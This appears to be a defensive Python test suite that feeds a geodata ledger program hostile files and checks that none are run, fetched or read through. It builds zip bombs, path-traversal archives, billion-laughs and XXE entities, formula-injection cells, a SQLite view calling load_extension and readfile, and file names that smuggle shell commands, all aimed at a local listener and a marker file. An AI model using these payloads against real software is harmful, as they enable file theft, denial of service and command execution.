"""Hostile files at the door of the ledger: read or refused in a line, in bounded time, nothing run or fetched."""

from __future__ import annotations

import json
import random
import sqlite3
import time
import zipfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

from tests.addressed_files import addressed_files, listening
from tests.attack.program import LAYER, ROOT, Program, Running, workspace, wrong_message
from tests.attack.rows import Row, row

POINTS = 60
FUZZED = 100
SLOWEST_S = 90  # the program stops reading a file after a minute of its own
MESSY = ROOT / "tests" / "cases" / "messy"
FORMATS = ("xlsx", "csv", "geojson", "gpkg", "shp.zip", "kml", "parquet")
SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
SECRET = "nobody-may-read-this"


def run(room: Path, *, seed: int, fuzzed: int = FUZZED) -> list[Row]:
    """Bring hostile files, then spoiled copies of good ones; returns a row for each kind."""
    with Program(room / "said") as program, listening() as (address, asked):
        ws = workspace(program, room / "ws", POINTS, seed=seed)
        good = _good_files(program, ws, room / "good")
        made, marker, secret = room / "hostile", room / "marker", room / "secret.csv"
        made.mkdir()
        secret.write_text(f"编号,名称,经度,纬度\n{SECRET},甲,114.1,22.5\n", encoding="utf-8")
        rows = [
            _brought(program, ws, name, makers(made, address, secret, marker))
            for name, makers in KINDS.items()
        ]
        rows.append(_fuzz(program, ws, room / "fuzz", good, random.Random(seed), fuzzed))
        rows.append(_afterwards(program, ws, room, asked, marker))
    return rows


def _import(program: Program, ws: Path, file: Path, layer: str = LAYER) -> Running:
    return program.begin("import", layer, file, "--crs", "wgs84", "--json", "--workspace", ws)


def _brought(program: Program, ws: Path, name: str, files: list[Path]) -> Row:
    with row(f"files: {name}") as found:
        for file in files:
            found.tried(*_problems(file.name, _import(program, ws, file)))
    return found


def _problems(name: str, running: Running) -> list[str]:
    started = time.monotonic()
    ran = running.ended(SLOWEST_S)
    wrong = wrong_message(ran)
    if not wrong and SECRET in ran.out + ran.err:
        wrong = ["the content of another file came with it"]
    return [f"{name}: {w} after {time.monotonic() - started:.0f} s" for w in wrong]


def _good_files(program: Program, ws: Path, folder: Path) -> list[tuple[str, Path]]:
    """Return good files of every format, each with its layer."""
    folder.mkdir()
    good = [(LAYER, folder / f"a.{ending}") for ending in FORMATS]
    for _, path in good:
        program.learn("export", LAYER, "--to", path, "--contacts", "--workspace", ws)
    program.learn("import", LAYER, good[0][1], "--dry-run", "--workspace", ws)
    return [(layer, path) for layer, path in good if path.exists()] + [
        ("slopes", next(MESSY.glob("slopes*.xls")))
    ]


# Makers of hostile files: folder, an address that listens, a file that is not for them, a file that must not come to be.
Makers = Callable[[Path, str, Path, Path], list[Path]]


def _archive(path: Path, members: dict[str, bytes | str]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _text(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    return path


def _bombs(folder: Path, _address: str, _secret: Path, _marker: Path) -> list[Path]:
    zeros = bytes(300 << 20)
    inner = _archive(folder / "inner.zip", {"a.shp": zeros}).read_bytes()
    return [
        _archive(folder / "bomb.xlsx", {"xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": zeros}),
        _archive(folder / "bomb.kmz", {"doc.kml": zeros}),
        _archive(folder / "bomb.zip", {"a.shp": zeros, "a.dbf": zeros, "a.shx": b""}),
        _archive(folder / "nested.zip", {f"{i}.zip": inner for i in range(20)}),
        _archive(folder / "many.zip", {f"{i}.shp": b"" for i in range(20_000)}),
        _archive(
            folder / "climbing.zip", {"../../marker": b"x", "/tmp/marker": b"x", "a.shp": b"\0\0\x27\x0a"}
        ),
        _text(folder / "line.csv", "编号,名称\n" + "x" * (60 << 20)),
        _text(folder / "wide.csv", ",".join(f"c{i}" for i in range(300_000)) + "\n1"),
        _text(folder / "quote.csv", '编号,名称,经度,纬度\nA,"' + "x,\n" * 500_000),
    ]


def _entities(folder: Path, address: str, secret: Path, _marker: Path) -> list[Path]:
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
    mark = "<kml><Document><Placemark><name>{}</name><Point><coordinates>114,22.5</coordinates></Point></Placemark></Document></kml>"
    doctypes = {
        "laughs": laughs,
        "file": f'<!ENTITY a11 SYSTEM "{secret.as_uri()}">',
        "fetch": f'<!ENTITY a11 SYSTEM "{address}/entity">',
        "outside": f'<!ENTITY % x SYSTEM "{address}/dtd"> %x;',
    }
    made = []
    for name, doctype in doctypes.items():
        text = f'<?xml version="1.0"?><!DOCTYPE kml [{doctype}]>'
        made.append(_text(folder / f"{name}.kml", text + mark.format("&a11;")))
        made.append(
            _archive(folder / f"{name}.kmz", {"doc.kml": (text + mark.format("&a11;")).encode("utf-16")})
        )
        cells = SHEET.format('<row r="1"><c r="A1" t="inlineStr"><is><t>&a11;</t></is></c></row>')
        made.append(_workbook(folder / f"{name}.xlsx", text.replace("kml", "worksheet") + cells))
    return made


def _workbook(path: Path, sheet: str, more: dict[str, str] | None = None) -> Path:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kinds = "http://schemas.openxmlformats.org/package/2006/content-types"
    return _archive(
        path,
        {
            "[Content_Types].xml": f'<Types xmlns="{kinds}"/>',
            "_rels/.rels": f'<Relationships xmlns="{rels}"><Relationship Id="r1" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{rels}"><Relationship Id="r1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": sheet,
            **(more or {}),
        },
    )


def _links(folder: Path, address: str, secret: Path, marker: Path) -> list[Path]:
    vrt = f'<OGRVRTDataSource><OGRVRTLayer name="s"><SrcDataSource>{secret}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
    linked = {"type": "link", "properties": {"href": f"{address}/crs", "type": "proj4"}}
    formulas = f'=cmd|"/C touch {marker}"!A0', f'=WEBSERVICE("{address}/f")', f'=HYPERLINK("{address}/h","x")'
    cells = "".join(
        f'<row r="{i + 2}"><c r="A{i + 2}"><f>{f[1:].replace("&", "").replace("<", "")}</f></c></row>'
        for i, f in enumerate(formulas)
    )
    view = (
        f"CREATE TABLE t(a); CREATE VIEW v AS SELECT load_extension('{marker}'), readfile('{secret}') FROM t;"
    )
    database = folder / "view.gpkg"
    with closing(sqlite3.connect(database)) as made:
        made.executescript(view)
    return [
        *(_text(folder / f"vrt.{e}", vrt) for e in ("kml", "geojson", "csv", "shp", "gpkg")),
        _text(
            folder / "crs.geojson", json.dumps({"type": "FeatureCollection", "crs": linked, "features": []})
        ),
        _text(
            folder / "link.kml",
            f"<kml><NetworkLink><Link><href>{address}/k</href></Link></NetworkLink></kml>",
        ),
        _text(
            folder / "formulas.csv",
            "编号,名称,经度,纬度\n" + "".join(f"F{i},{f},114.1,22.5\n" for i, f in enumerate(formulas)),
        ),
        _workbook(folder / "formulas.xlsx", SHEET.format(cells)),
        _text(folder / f"$(touch {marker.name}).csv", "编号,名称,经度,纬度\nB1,甲,114.1,22.5\n"),
        _text(folder / "'; touch marker; '.csv", "编号,名称,经度,纬度\nB2,甲,114.1,22.5\n"),
        database,
    ]


def _addresses(folder: Path, address: str, _secret: Path, _marker: Path) -> list[Path]:
    inside = folder / "addressed"
    inside.mkdir()
    return [file.path for file in addressed_files(inside, address)]


def _broken(folder: Path, _address: str, _secret: Path, _marker: Path) -> list[Path]:
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    merged = SHEET.format(far).replace(
        "</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    )
    point = {
        "type": "Feature",
        "properties": {"编号": "Z"},
        "geometry": {"type": "Point", "coordinates": [114, 22]},
    }
    good = json.dumps(point)
    collection = '{{"type":"FeatureCollection","features":[{}]}}'
    return [
        _workbook(folder / "far.xlsx", SHEET.format(far)),
        _workbook(folder / "merged.xlsx", merged),
        _workbook(
            folder / "references.xlsx", SHEET.format('<row r="0"><c r="ZZZZZ-1"><v>x</v></c><c r=""/></row>')
        ),
        _workbook(folder / "unclosed.xlsx", SHEET.format("<row><c><v>1")),
        _workbook(
            folder / "strings.xlsx", SHEET.format('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>')
        ),
        _archive(folder / "bare.xlsx", {"xl/workbook.xml": "<workbook/>"}),
        _text(folder / "deep.geojson", "[" * 200_000),
        _text(folder / "nested.geojson", collection.format('{"a":' * 100_000 + "1" + "}" * 100_000)),
        _text(
            folder / "rings.geojson",
            collection.format(good.replace("[114, 22]", "[" * 50_000 + "]" * 50_000)),
        ),
        _text(folder / "huge.geojson", collection.format(good.replace("114", "1e999999"))),
        _text(folder / "digits.geojson", collection.format(good.replace("114", "9" * 200_000))),
        _text(folder / "nan.geojson", collection.format(good.replace("114", "NaN"))),
        _text(
            folder / "nothing.geojson",
            collection.format('{"type":"Feature","properties":null,"geometry":null}'),
        ),
        _text(folder / "zeros.csv", "\0" * 100_000),
        _text(folder / "halves.csv", "编号,名称\n1,\ud800\n"),
        _text(folder / "digits.csv", f"编号,名称,经度,纬度\n{'9' * 50_000},甲,{'9' * 5000},22.5\n"),
        _text(folder / "bool.csv", "\ufeff\ufeff编号,编号,编号\n,,\n=,=,=\n"),
    ]


KINDS: dict[str, Makers] = {
    "bombs": _bombs,
    "entities": _entities,
    "links, formulas and names": _links,
    "addresses of every kind": _addresses,
    "broken workbooks, tables and deep JSON": _broken,
}


def _fuzz(  # noqa: PLR0917 - a table of what one attack needs
    program: Program, ws: Path, folder: Path, good: list[tuple[str, Path]], draw: random.Random, tries: int
) -> Row:
    """Bring spoiled copies of good files, two at a time."""
    folder.mkdir()
    with row("files: spoiled copies of good files") as found:
        running: list[tuple[str, Running]] = []
        for number in range(tries):
            layer, source = good[number % len(good)]
            ending = source.name.partition(".")[2]
            file = folder / f"{number}.{ending}"
            how, data = _spoiled(source.read_bytes(), draw)
            file.write_bytes(data)
            running.append((f"{file.name} ({how})", _import(program, ws, file, layer)))
            if len(running) > 1:
                found.tried(*_problems(*running.pop(0)))
        for one in running:
            found.tried(*_problems(*one))
    return found


def _spoiled(data: bytes, draw: random.Random) -> tuple[str, bytes]:
    spoiled, at = bytearray(data), draw.randrange(len(data))
    how = draw.choice(("bits", "bits", "cut", "zeros", "twice", "head"))
    if how == "cut":
        del spoiled[at:]
    elif how == "zeros":
        spoiled[at : at + draw.randint(1, 4096)] = bytes(draw.randint(1, 4096))
    elif how == "twice":
        spoiled[at:at] = data[at : at + draw.randint(1, 4096)]
    else:
        end = len(data) if how == "bits" else min(400, len(data))  # where formats say what they are
        for _ in range(draw.randint(1, 40)):
            spoiled[draw.randrange(end)] ^= 1 << draw.randrange(8)
    return how, bytes(spoiled)


def _afterwards(program: Program, ws: Path, room: Path, asked: list[str], marker: Path) -> Row:
    """Say whether anything was run or fetched, and whether the ledger with what came in still serves."""
    with row("files: nothing run or fetched, the ledger sound") as found:
        found.tried(*[f"fetched: {line[:80]!r}" for line in asked])
        left = [p for p in (marker, Path.cwd() / marker.name, room.parent / marker.name) if p.exists()]
        found.tried(*[f"something was run or written: {p}" for p in left])
        checked = program.run("!check", ws)
        found.tried(*([checked.out[-300:]] if checked.status else []))
        for words in (
            ("assess",),
            ("summary", "--json"),
            ("export", "--to", room / "all.xlsx"),
            ("export", "--to", room / "all.csv"),
        ):
            found.tried(*wrong_message(program.run(*words, "--workspace", ws), status=(0, 1)))
    return found
